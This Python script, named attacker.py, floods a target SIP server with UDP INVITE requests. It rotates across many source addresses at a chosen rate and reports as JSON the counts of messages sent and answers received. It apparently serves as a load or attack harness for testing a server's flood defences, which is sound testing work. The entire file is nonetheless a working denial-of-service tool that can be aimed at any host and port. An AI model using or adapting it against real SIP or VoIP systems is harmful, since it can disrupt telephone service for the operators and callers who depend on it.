"""An attacker, as a process of its own: ``attacker.py HOST PORT SOURCE COUNT RATE SECONDS``.

It sends INVITEs from so many sources, the first of which is SOURCE, and says as a line of JSON how
many it has sent, how many answers came, and how many seconds after its first message the last one
did.
"""

import json
import socket
import sys
import time
from collections import deque
from contextlib import suppress
from ipaddress import ip_address
from itertools import count

INVITE = (
    "INVITE sip:900{number}@{host} SIP/2.0\r\n"
    "Via: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{number};rport\r\n"
    "From: <sip:100@{host}>;tag={number}\r\nTo: <sip:900{number}@{host}>\r\n"
    "Call-ID: {number}@{source}\r\nCSeq: 1 INVITE\r\nMax-Forwards: 70\r\n"
    "Contact: <sip:100@{source}:{port}>\r\nContent-Length: 0\r\n\r\n"
)
#: Sockets that are open at one time.
OPEN = 500


def attack(host: str, port: int, first: str, sources: int, rate: float, seconds: float) -> None:
    """Send, and tell what came of it."""
    addresses = [str(ip_address(first) + number) for number in range(sources)]
    sockets: deque[socket.socket] = deque()
    by_source: dict[str, socket.socket] = {}
    begun = time.monotonic()
    sent = answers = 0
    last = 0.0
    for number in count():
        now = time.monotonic() - begun
        if now >= seconds:
            break
        if number > now * rate:
            time.sleep(0.001)
            for each in sockets:
                while True:
                    try:
                        each.recv(4096)
                    except (BlockingIOError, ConnectionError):
                        break
                    answers, last = answers + 1, time.monotonic() - begun
            while sent > (time.monotonic() - begun) * rate:
                time.sleep(0.0005)
        source = addresses[sent % sources]
        line = by_source.get(source)
        if line is None:
            line = socket.socket(type=socket.SOCK_DGRAM)
            line.setblocking(False)
            line.bind((source, 0))
            by_source[source] = line
            sockets.append(line)
            if len(sockets) > OPEN:
                gone = sockets.popleft()
                del by_source[gone.getsockname()[0]]
                gone.close()
        message = INVITE.format(host=host, source=source, port=line.getsockname()[1], number=sent)
        with suppress(BlockingIOError, ConnectionError):
            line.sendto(message.encode(), (host, port))
        sent += 1
    print(json.dumps({"sent": sent, "answers": answers, "last": last}), flush=True)


if __name__ == "__main__":
    host, port, first, sources, rate, seconds = sys.argv[1:]
    attack(host, int(port), first, int(sources), float(rate), float(seconds))
